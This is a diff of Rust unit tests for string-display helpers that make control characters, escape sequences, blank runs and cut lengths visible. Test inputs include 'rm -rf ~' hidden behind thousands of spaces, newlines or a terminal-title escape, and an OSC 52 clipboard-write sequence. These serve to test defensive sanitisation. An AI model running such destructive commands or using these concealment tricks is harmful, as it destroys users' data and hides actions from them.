+            "git status␛]0;␤rm -rf ~␇"
+        );
+    }
+
+    #[test]
     fn line_flavours_and_trimming() {
         assert_eq!(
             multi_line("  one\r\n\ttwo\u{2028}three  \n\n"),
-            "  one\n two\nthree"
+            "  one\n two⟨U+2028⟩three"
         );
         assert_eq!(
             one_line("  one\r\n\ttwo\u{2029}three\u{85}four  "),
-            "one  two three four"
+            "one␤ two⟨U+2029⟩three⟨U+0085⟩four"
         );
-        assert_eq!(multi_line("a\rb"), "ab");
-        assert_eq!(one_line("\u{200b} \u{1b}[1m x \u{feff}"), "x");
-        assert_eq!(one_line("\u{1b}[2J"), "");
+        assert_eq!(multi_line("a\rb"), "a␍b");
+        // Only blanks and line breaks are trimmed; what acts is shown.
+        assert_eq!(
+            one_line("\u{200b} \u{1b}[1m x \u{feff}"),
+            "⟨U+200B⟩ ␛[1m x ⟨U+FEFF⟩"
+        );
+        assert_eq!(one_line("\n\t x\r\n"), "x");
+        assert_eq!(multi_line("x\u{7}\n"), "x␇");
         assert_eq!(multi_line(""), "");
         assert!(borrowed(one_line("  trimmed only  ")));
         assert_eq!(one_line("  trimmed only  "), "trimmed only");
     }
 
     #[test]
-    fn a_copy_is_one_allocation_of_the_input_size() {
-        // Vec::with_capacity gives exactly the capacity asked for; a string
-        // that had to grow would have more.
-        for input in [
-            "\u{1b}[31mred\u{1b}[0m",
-            "a\u{85}b\u{2028}c\td  ",
-            "\u{202e}x",
+    fn long_runs_of_blanks_and_blank_lines_are_counted() {
+        let padded = format!("git status{}; rm -rf ~", " ".repeat(4000));
+        assert_eq!(one_line(&padded), "git status␠×4000; rm -rf ~");
+        assert_eq!(multi_line(&padded), "git status␠×4000; rm -rf ~");
+        let tabs = format!("a{}b", "\t \u{a0}".repeat(30));
+        assert_eq!(one_line(&tabs), "a␠×90b");
+        let lines = format!("git status{}rm -rf ~", "\n".repeat(300));
+        assert_eq!(
+            multi_line(&lines),
+            "git status\n[299 blank lines]\nrm -rf ~"
+        );
+        assert_eq!(one_line(&lines), "git status␤×300rm -rf ~");
+        // Blank lines holding blanks or CRs are blank lines too.
+        assert_eq!(
+            multi_line("a\r\n \r\n\t\n  \n \nb"),
+            "a\n[4 blank lines]\nb"
+        );
+        // At the thresholds: shown as they are.
+        for text in [
+            format!("{}deep();\n\nnext", " ".repeat(MULTI_LINE_BLANKS)),
+            format!("para one\n{}para two", "\n".repeat(BLANK_LINES)),
+            format!("a{}b", " ".repeat(MULTI_LINE_BLANKS)),
         ] {
-            for out in [one_line(input), multi_line(input)] {
-                match out {
-                    Cow::Owned(s) => assert_eq!(s.capacity(), input.len(), "{input:?}"),
-                    Cow::Borrowed(_) => panic!("{input:?} needed a change"),
-                }
-            }
+            assert!(borrowed(multi_line(&text)), "{text:?}");
         }
+        assert_eq!(
+            multi_line(&format!("a{}b", " ".repeat(MULTI_LINE_BLANKS + 1))),
+            format!("a␠×{}b", MULTI_LINE_BLANKS + 1)
+        );
+        assert_eq!(
+            multi_line(&format!("a{}b", "\n".repeat(BLANK_LINES + 2))),
+            format!("a\n[{} blank lines]\nb", BLANK_LINES + 1)
+        );
+        let aligned = format!("a{}b", " ".repeat(ONE_LINE_BLANKS));
+        assert!(borrowed(one_line(&aligned)));
+        assert_eq!(
+            one_line(&format!("a{}b", " ".repeat(ONE_LINE_BLANKS + 1))),
+            format!("a␠×{}b", ONE_LINE_BLANKS + 1)
+        );
+        assert_eq!(one_line("a\n\n\n\nb"), "a␤␤␤␤b");
+        assert_eq!(one_line("a\n\n\n\n\nb"), "a␤×5b");
     }
 
     #[test]
-    fn bounded_cuts_with_an_ellipsis_and_keeps_clusters() {
+    fn shown_text_grows_at_most_six_times() {
+        for input in [
+            "\u{85}".repeat(1000),
+            "\u{61c}".repeat(1000),
+            "\u{1b}".repeat(1000),
+            "\u{e0041}".repeat(1000),
+            "\n\n\n\n\nx".repeat(1000),
+            "x\n".repeat(1000),
+        ] {
+            for out in [one_line(&input), multi_line(&input)] {
+                assert!(
+                    out.len() <= 6 * input.len(),
+                    "{} from {}",
+                    out.len(),
+                    input.len()
+                );
+            }
+        }
+        assert_eq!(one_line("\u{85}").len(), 12);
+    }
+
+    #[test]
+    fn bounded_says_how_much_it_hid_and_keeps_clusters() {
         assert!(borrowed(bounded("short", 5)));
-        assert_eq!(bounded("abcdef", 4), "abc…");
-        assert_eq!(bounded("ab   cdef", 4), "ab…");
-        assert_eq!(bounded("abc", 0), "");
-        assert_eq!(bounded("abc", 1), "…");
+        assert_eq!(bounded("abcdef", 3), "abc… (+3 more characters)");
+        assert_eq!(bounded("abcd", 3), "abc… (+1 more character)");
+        assert_eq!(bounded("ab   cdef", 3), "ab… (+7 more characters)");
+        assert_eq!(bounded("abc", 0), "… (+3 more characters)");
+        assert_eq!(
+            bounded(&"x".repeat(1_234_567 + 2), 2),
+            "xx… (+1,234,567 more characters)"
+        );
         // Never between a letter and its combining accent.
-        assert_eq!(bounded("abe\u{301}cd", 4), "ab…");
-        assert_eq!(bounded("नमस्ते", 4), "नम…");
+        assert_eq!(bounded("abe\u{301}cd", 3), "ab… (+4 more characters)");
+        assert_eq!(bounded("नमस्ते", 3), "नम… (+4 more characters)");
         // Not inside a ZWJ sequence, a modifier, a variation selector or a flag.
-        assert_eq!(bounded("a👩\u{200d}💻 Dev", 3), "a…");
-        assert_eq!(bounded("a👩\u{200d}💻 Dev", 5), "a👩\u{200d}💻…");
-        assert_eq!(bounded("a👍\u{1f3fd}b", 3), "a…");
-        assert_eq!(bounded("a❤\u{fe0f}b", 3), "a…");
-        assert_eq!(bounded("🇫🇷🇩🇪x", 4), "🇫🇷…");
-        assert_eq!(bounded("🇫🇷🇩🇪x", 3), "🇫🇷…");
-        assert_eq!(bounded(&format!("a{FLAG_SCOTLAND}b"), 4), "a…");
+        assert_eq!(bounded("a👩\u{200d}💻 Dev", 2), "a… (+7 more characters)");
+        assert_eq!(
+            bounded("a👩\u{200d}💻 Dev", 4),
+            "a👩\u{200d}💻… (+4 more characters)"
+        );
+        assert_eq!(bounded("a👍\u{1f3fd}b", 2), "a… (+3 more characters)");
+        assert_eq!(bounded("a❤\u{fe0f}b", 2), "a… (+3 more characters)");
+        assert_eq!(bounded("🇫🇷🇩🇪x", 3), "🇫🇷… (+3 more characters)");
+        assert_eq!(bounded("🇫🇷🇩🇪x", 2), "🇫🇷… (+3 more characters)");
+        assert_eq!(
+            bounded(&format!("a{FLAG_SCOTLAND}b"), 3),
+            "a… (+8 more characters)"
+        );
     }
 
     #[test]
     fn a_four_mebibyte_id_is_shown_bounded() {
         let id = "que_".to_owned() + &"A".repeat(4 << 20);
         let shown = for_display(&id, DISPLAY_ID_CHARS);
-        assert_eq!(shown.chars().count(), DISPLAY_ID_CHARS);
-        assert!(shown.starts_with("que_AAA") && shown.ends_with('…'));
+        assert!(shown.starts_with(&id[..DISPLAY_ID_CHARS]), "{shown}");
+        assert!(shown.ends_with("… (+4,194,228 more characters)"), "{shown}");
 
         let hostile =
             "\u{1b}]52;c;QUJD\u{7}que_\u{202e}x".to_owned() + &"\u{1b}[2J".repeat(1 << 20) + "tail";
         let shown = for_display(&hostile, DISPLAY_ID_CHARS);
-        assert_eq!(shown, "que_xtail");
+        assert!(
+            shown.starts_with("␛]52;c;QUJD␇que_⟨U+202E⟩x␛[2J␛[2J"),
+            "{shown}"
+        );
+        assert!(shown.ends_with(" more characters)"), "{shown}");
+        // Four shown characters per ESC [ 2 J; the cut kept 80 of them all.
+        let total = "␛]52;c;QUJD␇que_⟨U+202E⟩x".chars().count() + 4 * (1 << 20) + 4;
+        assert!(
+            shown.ends_with(&cut_note(total - DISPLAY_ID_CHARS)),
+            "{shown}"
+        );
 
         let spaced = "id".to_owned() + &" ".repeat(4 << 20) + "\u{7}";
-        assert_eq!(for_display(&spaced, DISPLAY_ID_CHARS), "id");
-        let spaced_more = "id".to_owned() + &" ".repeat(4 << 20) + "\u{7}x";
-        let shown = for_display(&spaced_more, DISPLAY_ID_CHARS);
-        assert_eq!(shown, "id…");
+        assert_eq!(for_display(&spaced, DISPLAY_ID_CHARS), "id␠×4194304␇");
     }
 
     #[test]
@@ -718,12 +926,19 @@ mod tests {
                 "  error:\n\u{1b}[31mboom\u{1b}[0m\tnow ",
                 DISPLAY_MESSAGE_CHARS
             ),
-            "error: boom now"
+            "error:␤␛[31mboom␛[0m now"
         );
-        assert_eq!(for_display("\u{1b}[1mabcdef\u{1b}[0m", 4), "abc…");
-        assert_eq!(for_display("\u{1b}[1mabcd\u{1b}[0m  ", 4), "abcd");
-        assert_eq!(for_display("\u{1b}[1mab\u{301}cd", 3), "a…");
-        assert_eq!(for_display("\u{1b}[1mx", 0), "");
+        assert_eq!(
+            for_display("\u{1b}[1mabcdef", 6),
+            "␛[1mab… (+4 more characters)"
+        );
+        assert_eq!(for_display("\u{1b}[1mab  ", 6), "␛[1mab");
+        assert_eq!(
+            for_display("\u{1b}ab\u{301}cd", 3),
+            "␛a… (+4 more characters)"
+        );
+        assert_eq!(for_display("\u{1b}x", 0), "… (+2 more characters)");
+        assert_eq!(for_display("\u{1b}[1m", 4), "␛[1m");
     }
 
     #[test]
@@ -755,7 +970,9 @@ mod tests {
         assert!(refused("a b").contains("U+0020 at byte 1"));
         assert!(refused("ab\u{202e}c").contains("U+202E at byte 2"));
         assert!(refused("é").contains("U+00E9 at byte 0"));
-        assert!(refused("x\u{1b}]52;c;QUJD\u{7}").starts_with("refused id \"x\": U+001B"));
+        assert!(
+            refused("x\u{1b}]52;c;QUJD\u{7}").starts_with("refused id \"x␛]52;c;QUJD␇\": U+001B")
+        );
         assert_eq!(url_segment(""), Err(IdError::Empty));
         assert_eq!(refused(""), "refused an empty id");
         assert_eq!(
@@ -803,36 +1020,8 @@ mod tests {
         }
     }
 
-    /// Tags in `s` that are not part of a well-formed flag.
-    fn stray_tag(s: &str) -> bool {
-        let mut chars = s.chars().peekable();
-        while let Some(c) = chars.next() {
-            if ('\u{e0000}'..='\u{e007f}').contains(&c) {
-                return true;
-            }
-            if c == BLACK_FLAG {
-                let mut letters = 0;
-                while let Some(&t) = chars.peek() {
-                    if ('\u{e0030}'..='\u{e0039}').contains(&t)
-                        || ('\u{e0061}'..='\u{e007a}').contains(&t)
-                    {
-                        letters += 1;
-                        chars.next();
-                    } else {
-                        break;
-                    }
-                }
-                if letters > 0 && !((3..=7).contains(&letters) && chars.next() == Some(CANCEL_TAG))
-                {
-                    return true;
-                }
-            }
-        }
-        false
-    }
-
     #[test]
-    fn generated_strings_come_out_clean_and_stable() {
+    fn generated_strings_come_out_visible_and_stable() {
         const POOL: &[&str] = &[
             "a",
             "Z",
@@ -847,16 +1036,8 @@ mod tests {
             "]",
             "\\",
             "P",
-            "X",
-            "^",
-            "_",
-            "(",
-            "#",
-            "8",
             ";",
             "m",
-            "2J",
-            "c",
             "é",
             "e\u{301}",
             "ש",
@@ -866,25 +1047,12 @@ mod tests {
             "💻",
             "\u{1b}",
             "\u{1b}[",
-            "\u{1b}]",
             "\u{1b}]52;c;",
-            "\u{1b}]8;;",
             "\u{1b}\\",
             "\u{7}",
             "\u{18}",
-            "\u{1a}",
-            "\u{9b}",
-            "\u{9c}",
-            "\u{9d}",
-            "\u{90}",
-            "\u{98}",
-            "\u{9e}",
-            "\u{9f}",
-            "\u{85}",
             "\u{7f}",
             "\u{0}",
-            "\u{2028}",
-            "\u{2029}",
             "\u{200c}",
             "\u{200d}",
             "\u{fe0f}",
@@ -899,16 +1067,24 @@ mod tests {
             "\u{e0063}",
             "\u{e0074}",
             "\u{e007f}",
-            "\u{e0041}",
-            "\u{e0001}",
             FLAG_SCOTLAND,
             "\u{a0}",
             "\u{3000}",
+            "␛",
+            "⟨U+202E⟩",
+            "␠×9",
         ];
-        let pool: Vec<String> = POOL
+        let blanks = " ".repeat(20);
+        let breaks = "\n".repeat(5);
+        let pool: Vec<&str> = POOL
             .iter()
-            .map(|s| s.to_string())
-            .chain(REMOVED.chars().map(String::from))
+            .copied()
+            .chain(
+                CODED
+                    .char_indices()
+                    .map(|(i, c)| &CODED[i..i + c.len_utf8()]),
+            )
+            .chain([blanks.as_str(), breaks.as_str()])
             .collect();
         // xorshift64*: deterministic, so a failure reproduces.
         let mut state = 0x9e37_79b9_7f4a_7c15_u64;
@@ -921,39 +1097,44 @@ mod tests {
         for _ in 0..20_000 {
             let pieces = (next() % 24) as usize;
             let input: String = (0..pieces)
-                .map(|_| pool[(next() % pool.len() as u64) as usize].as_str())
+                .map(|_| pool[(next() % pool.len() as u64) as usize])
                 .collect();
             for keep_newlines in [false, true] {
-                let out = neutralise(&input, keep_newlines);
-                for c in out.chars() {
-                    let allowed =
-                        (keep_newlines && c == '\n') || ('\u{e0020}'..='\u{e007f}').contains(&c);
-                    let bad = c.is_control() || removed(c) || matches!(c, '\u{2028}' | '\u{2029}');
-                    let bad = bad && !allowed;
+                let out = shown(&input, keep_newlines);
+                let mut chars = out.chars();
+                while let Some(c) = chars.next() {
+                    if c == BLACK_FLAG {
+                        // A flag's tags are the one place tags pass.
+                        let tags = Visible::new(chars.as_str(), keep_newlines).flag_tag_count();
+                        chars.nth(tags.wrapping_sub(1));
+                        continue;
+                    }
+                    let bad = if c == '\n' {
+                        !keep_newlines
+                    } else {
+                        !untouched(c, true)
+                    };
                     assert!(!bad, "{:04X} in {out:?} from {input:?}", c as u32);
                 }
-                assert!(!stray_tag(&out), "stray tag in {out:?} from {input:?}");
+                assert!(out.len() <= 6 * input.len(), "{out:?} from {input:?}");
                 assert_eq!(trim(&out, keep_newlines), out, "untrimmed from {input:?}");
-                assert_eq!(
-                    neutralise(&out, keep_newlines),
-                    out,
-                    "not idempotent: {input:?}"
-                );
+                assert_eq!(shown(&out, keep_newlines), out, "not stable: {input:?}");
+                // Nothing visible is lost: every letter of the input is shown.
+                let letters = |s: &str| s.chars().filter(|c| c.is_alphanumeric()).count();
+                assert!(letters(&out) >= letters(&input), "{out:?} from {input:?}");
             }
-            let max = 1 + (next() % 12) as usize;
+            let max = (next() % 12) as usize;
             let shown = for_display(&input, max);
-            assert!(shown.chars().count() <= max, "{shown:?} from {input:?}");
             let line = one_line(&input);
             if line.chars().count() <= max {
                 assert_eq!(shown, line, "from {input:?}");
             } else {
-                assert!(shown.ends_with('…'), "{shown:?} from {input:?}");
-                assert!(
-                    line.starts_with(shown.trim_end_matches('…')),
-                    "{shown:?} from {input:?}"
-                );
+                let (kept, note) = shown.split_at(shown.rfind('…').expect("a cut note"));
+                assert!(kept.chars().count() <= max, "{shown:?} from {input:?}");
+                assert!(line.starts_with(kept), "{shown:?} from {input:?}");
+                let hidden = line.chars().count() - kept.chars().count();
+                assert_eq!(note, cut_note(hidden), "from {input:?}");
             }
-            assert_eq!(for_display(&shown, max), shown, "not idempotent: {input:?}");
         }
     }
 }
